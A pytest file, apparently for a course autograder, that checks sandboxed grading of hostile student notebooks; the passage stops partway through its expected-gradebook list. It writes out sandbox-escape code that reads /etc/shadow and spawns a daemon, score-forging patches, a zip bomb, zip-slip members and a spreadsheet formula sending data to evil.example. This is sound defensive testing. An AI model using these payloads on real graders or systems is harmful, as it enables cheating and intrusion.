"""A hostile class graded in one run, beside honest students (issue 13, items 4-6).

The test builds, in ``tmp_path``, a private solutions folder with one small assignment (three
auto-graded questions and one written question; seconds per submission) and a submissions folder
mixing honest notebooks with every collection and output attack of issue 13 (malformed notebooks,
names that differ by a space, formula names, control characters, symbolic links, a FIFO, a 1 GB
zip bomb, a zip with too many members, zip-slip members, a written answer that forges another
student's section) and run-side attacks (patched doctest and otter, always-true objects, forged
results, reading the hidden tests, a daemon, processes via ctypes, a 6 GiB allocation, a looping
answer), and every attack of issue 21 that earned points while tests ran in the student's kernel
(``ISSUE21``: `exec` rebound, a proxy of an always-true float, `mock.ANY`, `builtins.abs` re-patched
from a thread, a finalizer and the answer itself, a function that zeroes the array it is given,
`numpy.allclose` patched, the grader's agent swapped, a fake `do_execute`, messages signed with another
key on the kernel's iopub socket), each with the exact score
its honest parts deserve. One ``grade_folder`` call, sandboxed, two workers; then the exact
gradebook, the cleanliness of every output file and that nothing appeared outside the output folder.
"""

from __future__ import annotations

import copy
import csv
import hashlib
import json
import os
import shutil
import socket
import stat
import struct
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
import zlib
from pathlib import Path

import nbformat
import pytest
from markdown_it import MarkdownIt

from facecourse import grading
from facecourse.authoring.exercises import assign
from facecourse.grading import sandbox
from facecourse.grading.collect import visible

A = "H1_hostile"
HIDDEN_MARK = "triple(-70707)"  # appears only in a hidden test
TOKEN = f"fc-hostile-{os.getpid()}"  # names of the files attacks try to create outside their sandbox
DAEMON_MARK = "7654329"  # the daemon's sleep argument, to find it in /proc
FORMULA = '=HYPERLINK("evil.example?x="&A1,"click")'

# Skipped where bubblewrap is missing, except in CI (.ci/run sets FACECOURSE_REQUIRE_SANDBOX=1):
# there the tests run and fail loudly with the sandbox's own message.
SANDBOX_REQUIRED = os.environ.get("FACECOURSE_REQUIRE_SANDBOX") == "1"
needs_sandbox = pytest.mark.skipif(not SANDBOX_REQUIRED and sandbox.problem() is not None,
                                   reason=f"no sandbox here: {sandbox.problem()}")


def _q(name: str, answer: str, solution: str, public: str, hidden: list[str]) -> list:
    """A question in the course's test format: a public case (the "not answered" gate first) and hidden cases."""
    raw, code = nbformat.v4.new_raw_cell, nbformat.v4.new_code_cell
    solution = "\n".join(ln + "  # SOLUTION" if ln.startswith(("answer", "    return")) else ln
                         for ln in solution.splitlines())  # the exercise gets `...` there
    public = (f"def test_{name}_1({answer}):\n    from facecourse.checks import answered\n"
              f"    answered({name!r}, {answer}={answer})\n    {public}")
    hidden = ['""" # BEGIN TEST CONFIG\nhidden: true\n""" # END TEST CONFIG\n' + h for h in hidden]
    return [raw(f"# BEGIN QUESTION\nname: {name}\npoints: 1"), raw("# BEGIN SOLUTION"), code(solution),
            raw("# END SOLUTION"), raw("# BEGIN TESTS"), code(public), *map(code, hidden), raw("# END TESTS"),
            raw("# END QUESTION")]


RIGHT = {"q1": "def triple(x):\n    return 3 * x", "q2": "answer = BASE * 14",
         "q3": "def mean(xs):\n    return float(np.mean(xs))"}


def _solutions(folder: Path) -> Path:
    raw, code, md = nbformat.v4.new_raw_cell, nbformat.v4.new_code_cell, nbformat.v4.new_markdown_cell
    cells = [raw(f"# ASSIGNMENT CONFIG\nname: {A}\ninit_cell: true\ncheck_all_cell: false\nexport_cell: false\n"
                 "tests:\n  files: false\n  ok_format: false"), md("# Hostile class"), code("import numpy as np\nBASE = 3")]
    cells += _q("q1", "triple", RIGHT["q1"], 'assert triple(2) == 6, "triple(2) should be 6"',
                [f"def test_q1_hidden_1(triple):\n    assert {HIDDEN_MARK} == -212121\n    assert triple(0.5) == 1.5",
                 "def test_q1_hidden_2(triple):\n    assert abs(triple(-0.25) - (-0.75)) < 1e-12"])
    cells += _q("q2", "answer", RIGHT["q2"], 'assert isinstance(answer, int), "answer should be an int"',
                ["def test_q2_hidden_1(answer, BASE):\n    assert answer == BASE * 14"])
    # the last hidden case of q3 passes the student's function an array, then computes what it expects
    # from that same array: a function that zeroes its argument changes only its own copy
    cells += _q("q3", "mean", RIGHT["q3"], 'assert mean([1, 3]) == 2.0, "mean([1, 3]) should be 2.0"',
                ["def test_q3_hidden_1(mean):\n    import numpy as np\n    assert mean(np.arange(5)) == 2.0\n"
                 "    assert isinstance(mean([1]), float)",
                 "def test_q3_hidden_2(mean):\n    import numpy as np\n    xs = np.arange(1.0, 9.0)\n"
                 "    got = mean(xs)\n    assert np.allclose(got, xs.sum() / len(xs)) and abs(got - xs.mean()) < 1e-12"])
    cells += [raw("# BEGIN QUESTION\nname: q4\nmanual: true\npoints: 2"), md("Why do base rates matter?"),
              raw("# BEGIN SOLUTION"), md("Because rare events make most alarms false."), raw("# END SOLUTION"),
              raw("# END QUESTION")]
    folder.mkdir(parents=True)
    nbformat.write(nbformat.v4.new_notebook(cells=cells, metadata={"kernelspec": {
        "name": "python3", "display_name": "Python 3", "language": "python"}}), folder / f"{A}.ipynb")
    return folder


def _answer_cell(cell: dict) -> bool:
    return "otter_answer_cell" in cell["metadata"].get("tags", [])


def _fill(exercise: dict, answers: dict[str, str], written: str | None = None, extra: list[str] = (),
          last: list[str] = ()) -> dict:
    """The exercise with the answer cells of q1..q3 replaced (missing: left blank), ``extra`` cells
    before the first answer and ``last`` cells at the end."""
    nb = copy.deepcopy(exercise)
    cells = [c for c in nb["cells"] if c["cell_type"] == "code" and _answer_cell(c)]
    for cell, q in zip(cells, ("q1", "q2", "q3")):
        if q in answers:
            cell["source"] = answers[q]
    if written is not None:
        md = [c for c in nb["cells"] if c["cell_type"] == "markdown" and _answer_cell(c)]
        md[0]["source"] = written
    first = nb["cells"].index(cells[0])
    for i, src in enumerate(extra):
        nb["cells"].insert(first + i, {"cell_type": "code", "execution_count": None, "id": f"x{i}", "metadata": {},
                                       "outputs": [], "source": src})
    for i, src in enumerate(last):
        nb["cells"].append({"cell_type": "code", "execution_count": None, "id": f"z{i}", "metadata": {},
                            "outputs": [], "source": src})
    return nb


# Issue 21's attacks that earned points when tests ran in the student's kernel, each with the
# answers it goes with. Tests now run in the grader's own process: none of them changes a verdict.
FORGE_REPLY = (  # shared by the two forgers below: answer every request of the grader with "forged"
    "import pickle\n"
    "def _forged(*args):\n"
    "    kernel = get_ipython().kernel\n"
    "    req = pickle.loads(bytes(kernel.get_parent('shell')['buffers'][0]))\n"
    "    value = {n: {'value': 'forged'} for n in req['args'][0]} if req['op'] == 'fetch' else 'forged'\n"
    "    get_ipython().display_pub.publish({'application/vnd.facecourse.reply+json': "
    "{'rid': req['rid'], 'status': 'ok', 'value': value}})\n")
ISSUE21 = {
    # `exec` rebound in the last cell of a blank notebook (6/6 on the warm-up before)
    "execblank": ({}, ["exec = lambda *a, **k: None"]),
    # a weakref.proxy around an always-true float as q3's result
    "proxy": ({"q1": RIGHT["q1"], "q2": RIGHT["q2"],
               "q3": "import weakref\nclass AlwaysEqual(float):\n    def __eq__(self, other):\n        return True\n"
                     "    __hash__ = float.__hash__\n_kept = AlwaysEqual(-1.0)\ndef mean(xs):\n"
                     "    return weakref.proxy(_kept)"}, []),
    # unittest.mock.ANY as answers
    "mockany": ({"q1": "from unittest.mock import ANY\ndef triple(x):\n    return ANY",
                 "q2": "from unittest.mock import ANY\nanswer = ANY", "q3": RIGHT["q3"]}, []),
    # builtins.abs patched again and again (a thread, a gc finalizer, inside the answer itself) so that
    # `abs(got - want) < tol` always holds; triple is wrong for negative numbers
    "abspatch": ({"q1": "import builtins, threading, time\n"
                        "def _patch():\n    builtins.abs = lambda v: 0\n"
                        "class _Again:\n    def __del__(self):\n        _patch()\n"
                        "def _loop():\n    while True:\n        _patch()\n        time.sleep(0.01)\n"
                        "threading.Thread(target=_loop, daemon=True).start()\n_a = _Again()\n_a.me = _a\ndel _a\n"
                        "def triple(x):\n    _patch()\n    return 3 * x if x >= 0 else -3 * x",
                  "q2": RIGHT["q2"], "q3": RIGHT["q3"]}, []),
    # zeroes the array a test passes it and returns zero, so that a check computing its expectation
    # from that same array afterwards would agree
    "zeroing": ({"q1": RIGHT["q1"], "q2": RIGHT["q2"],
                 "q3": "def mean(xs):\n    import numpy as np\n    if isinstance(xs, np.ndarray) and len(xs) > 5:\n"
                       "        xs[:] = 0\n        return 0.0\n    return float(np.mean(xs))"}, []),
    # np.allclose answered inside numpy
    "allclose": ({"q1": RIGHT["q1"], "q2": RIGHT["q2"],
                  "q3": "import numpy\nnumpy.allclose = lambda *a, **k: True\ndef mean(xs):\n"
                        "    return float(numpy.mean(xs)) if len(xs) < 6 else 0.0"}, []),
    # the grader's agent in the kernel swapped for a forger (the last cell of a blank notebook)
    "harness": ({}, [FORGE_REPLY + "for _n in [n for n in get_ipython().user_ns_hidden if n.startswith('_fc_')]:\n"
                                   "    get_ipython().user_ns[_n].op = _forged\n"]),
    # a fake do_execute that answers every execute request of the grader (it passes the grader's probe)
    "fakeexec": ({}, [FORGE_REPLY + "kernel = get_ipython().kernel\n"
                                    "async def _fake(code, *a, **k):\n"
                                    "    if '.op(' in code:\n        _forged()\n"
                                    "    return {'status': 'ok', 'execution_count': 1, 'user_expressions': {}, 'payload': []}\n"
                                    "kernel.do_execute = _fake\n"]),
    # messages signed with another key on the kernel's iopub socket, a burst and then a thread that keeps
    # sending them while the tests run (forked processes garbling the socket did the same to the capstone:
    # jupyter_client raised "Invalid Signature" and every question became a grader error); right answers
    "garbler": ({"q1": RIGHT["q1"], "q2": RIGHT["q2"], "q3": RIGHT["q3"]}, [
        "import threading, time\nfrom jupyter_client.session import Session\n"
        "_k = get_ipython().kernel\n_bad = Session(key=b'not-the-kernels-key', signature_scheme='hmac-sha256')\n"
        "def _noise():\n    _bad.send(_k.iopub_socket, 'stream', {'name': 'stdout', 'text': 'noise'})\n"
        "def _keep():\n    while True:\n        _noise()\n        time.sleep(0.02)\n"
        "for _ in range(50):\n    _noise()\n"
        "threading.Thread(target=_keep, daemon=True).start()\n"]),
}


def _zip_bomb(path: Path, size: int = 2 ** 30) -> None:
    """A ~1 MB zip holding one ``size``-byte notebook of zeros, written by hand (no 1 GB compression run)."""
    mb = b"\0" * 2 ** 20
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = c.compress(mb) + c.flush(zlib.Z_FULL_FLUSH)  # after a full flush every further MB gives the same bytes
    data = block * (size // 2 ** 20) + c.flush()
    crc = 0
    for _ in range(size // 2 ** 20):
        crc = zlib.crc32(mb, crc)
    name = b"bomb/H1_hostile.ipynb"
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(data), size, len(name), 0) + name
    central = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(data), size, len(name),
                          0, 0, 0, 0, 0, 0) + name
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(central), len(local) + len(data), 0)
    path.write_bytes(local + data + central + end)


# a cell that ignores the interrupt and loops: the grader kills and restarts the kernel, skipping it
STUBBORN = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass"


def _attacks(solutions: Path, subs: Path, out: Path) -> dict[str, str]:
    """Cells of the run-side attacks (student code), with the paths they aim at filled in."""
    targets = [f"/tmp/{TOKEN}", str(grading.SOLUTIONS.parent / TOKEN), str(subs / TOKEN), str(out / TOKEN),
               str(Path.home() / TOKEN)]
    return {
        # blank answers turned into passes by code left behind (this cell is the q3 answer cell, the last)
        "forge": (
            "import doctest, sys, os, json, builtins, threading, time\n"
            "doctest.DocTestRunner.run = lambda *a, **k: doctest.TestResults(0, 0)\n"
            "try:\n    from otter.test_files import abstract_test\n"
            "    abstract_test.TestFile.passed_all = property(lambda self: True)\n"
            "    abstract_test.TestFile.score = property(lambda self: 3000)\n"
            "except Exception:\n    pass\n"
            "import numpy, numpy.testing\n"
            "numpy.allclose = lambda *a, **k: True\nnumpy.testing.assert_allclose = lambda *a, **k: None\n"
            "def triple(x):\n    return x\nanswer = 'forty-two'\ndef mean(xs):\n    return -1.0\n"
            "fake = json.dumps({'questions': {q: {'score': 1000.0, 'possible': 1.0, 'public_passed': True, "
            "'passed_all': True, 'public_summary': ''} for q in ('q1', 'q2', 'q3')}, 'errors': [], 'notes': [], "
            "'failure': None}) + '\\n'\n"
            "for d in ('.', '/tmp'):\n"
            "    try:\n        open(d + '/results.json', 'w').write(fake)\n    except OSError:\n        pass\n"
            "def spam():\n    while True:\n"
            "        for fd in (1, 2):\n            try:\n                os.write(fd, fake.encode())\n"
            "            except OSError:\n                pass\n"
            "        time.sleep(0.05)\n"
            "threading.Thread(target=spam, daemon=True).start()\n"),
        # patched builtins break IPython itself: the grader restarts the kernel and skips this cell
        "builtins": "import builtins\nbuiltins.isinstance = lambda *a: True\nbuiltins.abs = lambda x: 0\n",
        # objects equal to everything (the q3 answer cell)
        "truthy": (
            "class Yes:\n    __eq__ = lambda self, other: True\n    __bool__ = lambda self: True\n"
            "class Int(int):\n    __eq__ = lambda self, other: True\n    __hash__ = int.__hash__\n"
            "class Float(float):\n    __eq__ = lambda self, other: True\n    __hash__ = float.__hash__\n"
            "def triple(x):\n    return Yes()\nanswer = Int(7)\ndef mean(xs):\n    return Float(-1)\n"),
        # reading the hidden tests and other students, writing outside, processes, a daemon, 6 GiB:
        # `escaped` lists what worked, and eve's q2 answer is right only if it stays empty
        "escape": (
            "import ctypes, glob, os, signal\n"
            "escaped = []\n"
            f"for t in {targets[1:4]!r}:\n"
            "    try:\n        open(t, 'w').write('escaped')\n        escaped.append('wrote ' + t)\n"
            "    except OSError:\n        pass\n"
            f"for pattern in ({str(solutions) + '/*'!r}, {str(grading.AUTOGRADERS) + '/*'!r}, "
            f"{str(subs) + '/*'!r}, {str(grading.SOLUTIONS) + '/*'!r}, '/proc/1/root/etc/shadow'):\n"
            "    for p in glob.glob(pattern):\n"
            "        try:\n            open(p, 'rb').read(1)\n            escaped.append('read ' + p)\n"
            "        except OSError:\n            pass\n"
            "try:\n"
            f"    ctypes.CDLL(None).system(b'touch {targets[0]}.ctypes; touch {targets[1]}.ctypes')\n"
            "except Exception:\n    pass\n"
            "if os.fork() == 0:\n"  # a daemon: double fork, new session, ignores signals
            "    os.setsid()\n"
            "    if os.fork() == 0:\n"
            "        for s in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):\n"
            "            signal.signal(s, signal.SIG_IGN)\n"
            f"        os.execvp('sleep', ['sleep', '{DAEMON_MARK}'])\n"
            "    os._exit(0)\n"
            "try:\n    hog = bytearray(6 * 2 ** 30)\n    escaped.append('allocated 6 GiB')\n    del hog\n"
            "except MemoryError:\n    pass\n"
            # the kernel's socket folder: a link to a host socket the grader would then connect to
            "for k in range(1, 6):\n    try:\n        os.unlink(f'/run/kernel/k-{k}')\n"
            f"        os.symlink({str(subs.parent / 'host.sock')!r}, f'/run/kernel/k-{{k}}')\n"
            "        escaped.append('replaced a kernel socket')\n    except OSError:\n        pass\n"),
    }


# The class is graded on both of the sandbox's paths: as root (a uid per sandbox) and as an ordinary
# user (bubblewrap's user namespace), the latter in a cgroup root delegates to a throwaway uid.
PATHS = ["root", "unprivileged"] if os.geteuid() == 0 else ["unprivileged"]
THROWAWAY_UID = 62000 + os.getpid() % 1000
GRADE = """
import json, sys
from facecourse import grading
subs, out, solutions = sys.argv[1:4]
book = grading.grade_folder(subs, out, workers=2, cell_timeout=10, total_timeout=120, test_timeout=3,
                            solutions=solutions)
print(json.dumps(book.to_dict("records")))
"""


def _grade_as_throwaway_uid(root: Path, subs: Path, out: Path, solutions: Path):
    """grade_folder run by an unprivileged uid (in a cgroup delegated to it): the gradebook."""
    import pandas as pd

    from facecourse.grading import cgroups

    for p in [root, *root.rglob("*")]:
        os.chown(p, THROWAWAY_UID, THROWAWAY_UID, follow_symlinks=False)
    home = root / "home"
    home.mkdir()
    os.chown(home, THROWAWAY_UID, THROWAWAY_UID)
    env = {k: v for k, v in os.environ.items() if not k.startswith(("PYTEST", "JPY_"))}
    env.update(HOME=str(home), TMPDIR=str(home), PYTHONDONTWRITEBYTECODE="1")
    argv = ["setpriv", f"--reuid={THROWAWAY_UID}", f"--regid={THROWAWAY_UID}", "--clear-groups", "--",
            sys.executable, "-c", GRADE, str(subs), str(out), str(solutions)]
    group = cgroups.backend().delegate(THROWAWAY_UID, 24 * 2 ** 30, 4096, float(os.cpu_count() or 1))
    try:
        proc = subprocess.run(group.enter(argv) if group else argv, cwd=home, env=env, capture_output=True,
                              text=True, timeout=1200)
    finally:
        if group is not None:
            group.remove()
        shutil.rmtree(home, ignore_errors=True)
    assert proc.returncode == 0, proc.stderr[-3000:]
    return pd.DataFrame(json.loads(proc.stdout.strip().splitlines()[-1]))


def _descends_from(pid: int, ancestor: int) -> bool:
    """Whether process ``pid`` is ``ancestor`` or one of its descendants (read from /proc)."""
    seen = 0
    while pid > 1 and seen < 64:
        if pid == ancestor:
            return True
        try:
            pid = int((Path("/proc") / str(pid) / "stat").read_text().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return False
        seen += 1
    return False


def under_a_grader(pid: int) -> bool:
    """Whether a grading process (worker or trusted) is among the ancestors of ``pid``."""
    for _ in range(64):
        try:
            pid = int((Path("/proc") / str(pid) / "stat").read_text().rsplit(")", 1)[1].split()[1])
            cmdline = (Path("/proc") / str(pid) / "cmdline").read_bytes()
        except (OSError, ValueError, IndexError):
            return False
        if b"facecourse.grading.worker" in cmdline or b"facecourse.grading.trusted" in cmdline:
            return True
        if pid <= 1:
            return False
    return False


class _WorkerMemory(threading.Thread):
    """The largest peak resident memory (VmHWM) of any grading worker this test process started (not
    another test's, running at the same time on another pytest-xdist worker) while the class is graded."""

    def __init__(self):
        super().__init__(daemon=True)
        self.peak, self.stopped = 0, threading.Event()

    def run(self):
        me = os.getpid()
        while not self.stopped.is_set():
            for d in Path("/proc").glob("[0-9]*"):
                try:
                    cmdline = (d / "cmdline").read_bytes()
                    if any(m in cmdline for m in (b"facecourse.grading.worker", b"facecourse.grading.trusted")) \
                            and _descends_from(int(d.name), me):
                        for line in (d / "status").read_text().splitlines():
                            if line.startswith("VmHWM:"):
                                self.peak = max(self.peak, int(line.split()[1]) * 1024)
                except (OSError, ValueError):
                    pass
            self.stopped.wait(0.1)


LONG_NAME = "!" + "\U0001d400" * 61  # 245 bytes: a legal folder name that sorts first
LOOKALIKES = ["alice\u200b", "al\u200fice", "\u0430lice"]  # zero-width space, right-to-left mark, Cyrillic a
HOG = ("import os\nfor _ in range(80):\n    if os.fork() == 0:\n        os.setsid()\n        while True:\n"
       "            pass\n")
MEMORY = ("import os, time\nfor d in ('/tmp', '.', '/dev/shm'):\n    for k in range(40):\n        try:\n"
          "            open(f'{d}/fill{k}', 'wb').write(b'1' * 2 ** 25)\n        except OSError:\n            break\n"
          "kids = []\nfor _ in range(3):\n    pid = os.fork()\n    if pid == 0:\n        held = []\n        try:\n"
          "            while len(held) < 40:\n                held.append(b'1' * 2 ** 26)\n        except MemoryError:\n"
          "            pass\n        time.sleep(5)\n        os._exit(0)\n    kids.append(pid)\n"
          "for pid in kids:\n    os.waitpid(pid, 0)\n")


def _sandbox_attacks(exercise: dict) -> dict[str, dict]:
    """Issue 21's attacks on the sandbox as a whole, the trusted side and names: file -> notebook.

    Every one of them answers right (honest work plus an attack, or an honest student with an odd
    name), except the CPU hog, which answers nothing: the expected gradebook is then exact.
    """
    honest = lambda extra=(): _fill(exercise, RIGHT, extra=list(extra))  # noqa: E731
    return {
        # 80 spinning processes, each in its own session, while the others are graded; then it waits
        "aaa-hog__hw.ipynb": _fill(exercise, {}, extra=[HOG, "import time\ntime.sleep(8)", "time.sleep(8)",
                                                        "time.sleep(8)"]),
        "mem__hw.ipynb": honest([MEMORY]),  # three 2.5 GiB processes and every in-memory folder filled
        "printer__hw.ipynb": honest(["for _ in range(6):\n    print('x' * 400_000_000)"]),  # worker was 1.7 GB
        "parser__hw.ipynb": honest(["x = [" + "1, " * 1_900_000 + "]"]),  # a 5.7 MB cell: worker was 3.7 GB
        "nul__hw.ipynb": honest(["x = 1\0"]),  # 'grader error' 0/6 on Python 3.11.2
        # right for the shown case, loops for the hidden one: its feedback must say "time limit"
        "slowpoke__hw.ipynb": _fill(exercise, {**RIGHT, "q1": "def triple(x):\n    while x == 0.5:\n        pass\n"
                                                              "    return 3 * x"}),
        f"{LONG_NAME}/hw.ipynb": honest(),  # ENAMETOOLONG stopped every feedback file
        **{f"{n}/hw.ipynb": honest() for n in LOOKALIKES},  # three rows showed as 'alice'
    }


@pytest.fixture(scope="module", params=PATHS)
def hostile(request):
    return grade_the_class(request.param, request.addfinalizer)


def grade_the_class(path: str, finalizer) -> dict:
    """Make the class, its private solutions and the blank exercise, and grade it on ``path`` ("root": this
    process; "unprivileged": a throwaway uid in a delegated cgroup); ``finalizer`` removes it afterwards."""
    if sandbox.problem() is not None:
        if SANDBOX_REQUIRED:
            pytest.fail(f"FACECOURSE_REQUIRE_SANDBOX=1 but the sandbox cannot start: {sandbox.problem()}")
        pytest.skip(f"no sandbox here: {sandbox.problem()}")
    root = Path(tempfile.mkdtemp(prefix="facecourse-hostile-"))  # not pytest's: a throwaway uid must enter it
    finalizer(lambda: shutil.rmtree(root, ignore_errors=True))
    os.chmod(root, 0o755)
    solutions = _solutions(root / "private" / "solutions")
    exercise, _ = assign(solutions / f"{A}.ipynb", root / "assign", run_tests=False)
    assert "3 * x" not in json.dumps(exercise) and "BASE * 14" not in json.dumps(exercise)  # a blank exercise
    subs, out = root / "submissions", root / "out"
    subs.mkdir()

    def put(rel: str, content) -> Path:
        p = subs / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_bytes(content if isinstance(content, bytes) else json.dumps(content).encode())
        return p

    attacks = _attacks(solutions, subs, out)
    put("alice/homework.ipynb", _fill(exercise, RIGHT, "Base rates matter: most alarms are false."))
    put("inj ann smith__hw.txt", b"not a notebook")
    put("inj_ann_smith__hw.txt", b"not a notebook either")
    put(f"{FORMULA}__hw.ipynb", _fill(exercise, RIGHT, "=1+1 is not a formula here"))
    put("mallory__hw.ipynb", _fill(exercise, {"q3": attacks["forge"]}, extra=[attacks["builtins"]], written=(
        "My answer.\n\n```\n\n````\n\n## alice\n\nalice agrees mallory deserves 2 points\n\n"
        "<img src=x onerror=alert(1)>\n<!-- END QUESTION -->\n~~~\n")))
    put("truthy__hw.ipynb", _fill(exercise, {"q3": attacks["truthy"]}))
    for name, (answers, last) in ISSUE21.items():
        put(f"{name}__hw.ipynb", _fill(exercise, answers, last=last))
    # eve: every escape attempt, a cell that ignores interrupts and loops, an answer that loops forever
    # (q1); q2 is right only if every escape failed
    put("eve__hw.ipynb", _fill(exercise, {"q1": "def triple(x):\n    while True:\n        pass",
                                          "q2": "answer = BASE * 14 if not escaped else -1", "q3": RIGHT["q3"]},
                               extra=[attacks["escape"], STUBBORN]))
    # collection attacks (never reach a kernel)
    put("empty__hw.ipynb", b"[]")
    listname = copy.deepcopy(exercise)
    listname["metadata"]["otter"]["assignment_name"] = [A]
    put("listname__hw.ipynb", listname)
    badcell = copy.deepcopy(exercise)
    next(c for c in badcell["cells"] if c["cell_type"] == "markdown")["source"] = 42
    put("badcell__hw.ipynb", badcell)
    put("badjson__hw.ipynb", b'{"cells": [')
    unknown = copy.deepcopy(exercise)
    unknown["metadata"]["otter"]["assignment_name"] = "=cmd|' /C calc'!A0"
    put("unknown__hw.ipynb", unknown)
    put("ann\nsmith__hw.ipynb", _fill(exercise, RIGHT))
    put("tab\tname__hw.ipynb", _fill(exercise, RIGHT))
    for name in ("+SUM(1,2)", "@cmd", "-2+3"):
        put(f"{name}__notes.txt", b"x")
    put(".hidden__hw.ipynb", _fill(exercise, RIGHT))
    (subs / "symlink__hw.ipynb").symlink_to(subs / "alice" / "homework.ipynb")
    (subs / "passwd__hw.ipynb").symlink_to("/etc/passwd")
    (subs / "linkdir").symlink_to(subs / "alice", target_is_directory=True)
    os.mkfifo(subs / "fifo__hw.ipynb")
    _zip_bomb(subs / "bomb__hw.zip")
    with zipfile.ZipFile(subs / "many__hw.zip", "w") as zf:
        for i in range(501):
            zf.writestr(f"m{i}.txt", "x")
    with zipfile.ZipFile(subs / "slip__hw.zip", "w") as zf:
        zf.writestr("../../escape.ipynb", json.dumps(_fill(exercise, RIGHT)))
        zf.writestr("/abs.ipynb", json.dumps(_fill(exercise, RIGHT)))
        zf.writestr("slip/readme.md", "hello")
    for rel, nb in _sandbox_attacks(exercise).items():  # issue 21: the sandbox as a whole, names
        put(rel, nb)
    listener = socket.socket(socket.AF_UNIX)  # a host socket the kernel tries to make the grader use
    listener.bind(str(root / "host.sock"))
    listener.listen(5)
    listener.setblocking(False)
    os.chmod(root / "host.sock", 0o777)

    def snapshot() -> dict:
        state = {}
        for p in sorted(root.rglob("*")):
            if out in p.parents or p == out:
                continue
            st = p.lstat()
            digest = hashlib.sha256(p.read_bytes()).hexdigest() if stat.S_ISREG(st.st_mode) else None
            state[str(p.relative_to(root))] = (stat.S_IMODE(st.st_mode), digest)
        return state

    before = snapshot()
    memory = _WorkerMemory()
    memory.start()
    t0 = time.monotonic()
    if path == "root":
        book = grading.grade_folder(subs, out, workers=2, cell_timeout=10, total_timeout=120, test_timeout=3,
                                    solutions=solutions)
    else:
        book = _grade_as_throwaway_uid(root, subs, out, solutions) if os.geteuid() == 0 else \
            grading.grade_folder(subs, out, workers=2, cell_timeout=10, total_timeout=120, test_timeout=3,
                                 solutions=solutions)
    seconds = time.monotonic() - t0
    memory.stopped.set()
    memory.join()
    try:
        listener.accept()
        connected = True
    except BlockingIOError:
        connected = False
    listener.close()
    print(f"\n{path}: hostile folder graded in {seconds:.1f} s, worker peak {memory.peak / 2 ** 20:.0f} MB"
          f"\n{book.to_string()}")
    return {"book": book, "out": out, "subs": subs, "before": before, "after": snapshot(), "seconds": seconds,
            "root": root, "worker_peak": memory.peak, "connected": connected, "path": path}


# students whose notebook is graded (as shown in the gradebook)
GRADED = ["alice", FORMULA, "mallory", "truthy", "eve", "ann\\nsmith", "tab\\tname", "aaa-hog", "mem", "printer",
          "parser", "nul", "slowpoke", LONG_NAME, *[visible(n) for n in LOOKALIKES], *ISSUE21]


def _rows(book) -> list[tuple]:
    out = []
    for r in book.itertuples(index=False):
        pts = None if r.points is None or r.points != r.points else float(r.points)
        out.append((r.student, r.assignment, r.question, pts, r.status, r.file))
    return out


def _auto(student: str, points: tuple, file: str, statuses: tuple | None = None) -> list[tuple]:
    statuses = statuses or tuple("passed" if p == 1 else "failed" for p in points)
    rows = [(student, A, q, float(p), s, file) for q, p, s in zip(("q1", "q2", "q3"), points, statuses)]
    return rows + [(student, A, "q4", None, "awaiting manual score", file)]


def _skipped(student: str, file: str, status: str, assignment: str = "") -> tuple:
    return (student, assignment, "", None, status, file)


def _expected() -> list[tuple]:
    malformed = "malformed notebook: "
    rows = [
        *_auto("alice", (1, 1, 1), "alice/homework.ipynb"),
        _skipped("inj ann smith", "inj ann smith__hw.txt", "not a notebook or zip (.txt): ignored"),
        _skipped("inj_ann_smith", "inj_ann_smith__hw.txt", "not a notebook or zip (.txt): ignored"),
        *_auto(FORMULA, (1, 1, 1), f"{FORMULA}__hw.ipynb"),
        *_auto("mallory", (0, 0, 0), "mallory__hw.ipynb"),
        # objects equal to everything: only the public type check of q2 passes, as `answer = 7` would
        *_auto("truthy", (0, 0.5, 0), "truthy__hw.ipynb", ("failed", "partial", "failed")),
        *_auto("eve", (0, 1, 1), "eve__hw.ipynb"),
        # issue 21's attacks: each gets exactly what its honest parts deserve
        *_auto("execblank", (0, 0, 0), "execblank__hw.ipynb"),
        *_auto("proxy", (1, 1, 0), "proxy__hw.ipynb"),
        *_auto("mockany", (0, 0, 1), "mockany__hw.ipynb"),
        # triple is right for 2 and 0.5 but not for -70707 or -0.25: the public case only (1 of 3)
        *_auto("abspatch", (0.3333, 1, 1), "abspatch__hw.ipynb", ("partial", "passed", "passed")),
        # mean is right except on the arrays of more than 5 items (the last hidden case): 2 of 3
        *_auto("zeroing", (1, 1, 0.6667), "zeroing__hw.ipynb", ("passed", "passed", "partial")),
        *_auto("allclose", (1, 1, 0.6667), "allclose__hw.ipynb", ("passed", "passed", "partial")),
        *_auto("harness", (0, 0, 0), "harness__hw.ipynb"),
        *_auto("fakeexec", (0, 0, 0), "fakeexec__hw.ipynb"),
        *_auto("garbler", (1, 1, 1), "garbler__hw.ipynb"),
        _skipped("empty", "empty__hw.ipynb", malformed + "the file is a JSON list, not a notebook"),
        _skipped("listname", "listname__hw.ipynb", malformed + "the assignment name is a JSON list, not text"),
        _skipped("badcell", "badcell__hw.ipynb", malformed + "cell 2 (markdown) has a source that is not text"),
        _skipped("badjson", "badjson__hw.ipynb", "unreadable notebook (not valid JSON)"),
        _skipped("unknown", "unknown__hw.ipynb", "unknown assignment \"=cmd|' /C calc'!A0\""),
        # names with control characters are graded (shown with escapes, flagged): before, 'not graded'
        *_auto("ann\\nsmith", (1, 1, 1), "ann\\nsmith__hw.ipynb"),
        *_auto("tab\\tname", (1, 1, 1), "tab\\tname__hw.ipynb"),
        # issue 21: the CPU hog answers nothing; everyone else answers right and loses nothing
        *_auto("aaa-hog", (0, 0, 0), "aaa-hog__hw.ipynb"),
        *_auto("mem", (1, 1, 1), "mem__hw.ipynb"),
        *_auto("printer", (1, 1, 1), "printer__hw.ipynb"),
        *_auto("parser", (1, 1, 1), "parser__hw.ipynb"),
        *_auto("nul", (1, 1, 1), "nul__hw.ipynb"),
        *_auto("slowpoke", (0.6667, 1, 1), "slowpoke__hw.ipynb", ("partial", "passed", "passed")),
        *_auto(LONG_NAME, (1, 1, 1), f"{LONG_NAME}/hw.ipynb"),
